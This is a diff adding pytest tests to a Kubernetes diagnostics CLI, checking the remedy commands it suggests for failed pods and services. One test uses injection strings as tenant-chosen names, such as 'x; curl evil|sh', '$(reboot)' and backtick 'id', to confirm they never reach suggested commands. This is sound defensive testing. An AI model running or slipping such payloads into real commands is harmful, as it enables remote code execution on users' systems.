@@ -13,7 +13,7 @@ from support.builders import condition, make, waiting
 import aim_cli
 from aim_cli.cluster.refs import JsonObject, Ref
 from aim_cli.output import safe
-from aim_cli.why.blockers import PIPELINE, Search, blockers_of, causes
+from aim_cli.why.blockers import PIPELINE, Blocker, Link, Search, blockers_of, causes
 from aim_cli.why.command import answer, lines_of, why
 from aim_cli.why.remedies import REMEDIES, remedy_of
 from aim_domain import AIMService, labels
@@ -682,3 +682,52 @@ def test_only_an_artifact_that_is_made_again_is_deleted_for_its_storage_class(ma
     assert words in reported[1]
     assert "kubectl get storageclass" in reported[2]
     assert ("kubectl delete aimartifact weights -n team" in reported[2]) is deletes
+
+
+@pytest.mark.spec("FW-867")
+@pytest.mark.parametrize("chosen", ["x; curl evil|sh", "$(reboot)", "`id`", "a b", "'quoted'", "x\\nkubectl"])
+@pytest.mark.parametrize(
+    ("reason", "message"),
+    [
+        ("CreateContainerConfigError", 'secret "{}" not found'),
+        ("CreateContainerConfigError", "couldn't find key {} in Secret team/hub"),
+        ("CreateContainerConfigError", "couldn't find key token in Secret team/{}"),
+        ("CrashLoopBackOff", 'last exit code 1: secret "{}" not found'),
+    ],
+)
+def test_no_command_holds_words_that_a_tenant_chose(chosen: str, reason: str, message: str) -> None:
+    blocker = Blocker("", reason, message.format(chosen), service="aimservice chat -n team")
+    assert chosen not in remedy_of(Link(Ref(POD, TEAM, "p"), blocker))
+
+
+@pytest.mark.spec("FW-867")
+def test_a_log_that_is_quoted_leads_to_no_deletion() -> None:
+    words = 'exited with code 1: storageclass.storage.k8s.io "x" not found; has no template and makes none: '
+    blocker = Blocker("", "PodFailed", words, service="aimservice chat -n team", chosen="aimtemplatecache c -n team")
+    assert "kubectl delete" not in remedy_of(Link(Ref(kinds.AIM_SERVICE, TEAM, "chat"), blocker))
+
+
+@pytest.mark.spec("FW-552", "FW-080")
+def test_what_is_worked_on_first_is_named_first_while_nothing_has_failed() -> None:
+    conditions = [
+        condition("HTTPRouteReady", False, "BackendNotFound", "no predictor yet"),
+        condition("InferenceServiceReady", False, "CreatingRuntime", "not there yet"),
+        condition("CacheReady", False, "CacheCreating", "is being filled"),
+        condition("Ready", False, "Progressing", "Waiting for Cache, InferenceService: is being filled"),
+    ]
+    service = make(kinds.AIM_SERVICE, "chat", namespace=TEAM, spec=SERVICE, status={"conditions": conditions})
+    assert [one.condition for one in blockers_of(kinds.AIM_SERVICE, service)] == [
+        "CacheReady",
+        "InferenceServiceReady",
+        "HTTPRouteReady",
+    ]
+
+
+@pytest.mark.spec("FW-552")
+def test_a_pod_that_a_queue_gates_and_one_that_has_just_ended_say_so() -> None:
+    gated = condition("PodScheduled", False, "SchedulingGated", "Scheduling is blocked due to scheduling gates")
+    waits = make(POD, "p", namespace=TEAM, status={"phase": "Pending", "conditions": [gated]})
+    assert [(one.reason, one.message) for one in blockers_of(POD, waits)] == [(gated["reason"], gated["message"])]
+    killed = {"name": "c", "state": {"terminated": {"exitCode": 137, "reason": "OOMKilled"}}}
+    ended = make(POD, "p", namespace=TEAM, status={"phase": "Running", "containerStatuses": [killed]})
+    assert [one.reason for one in blockers_of(POD, ended)] == ["OOMKilled"]
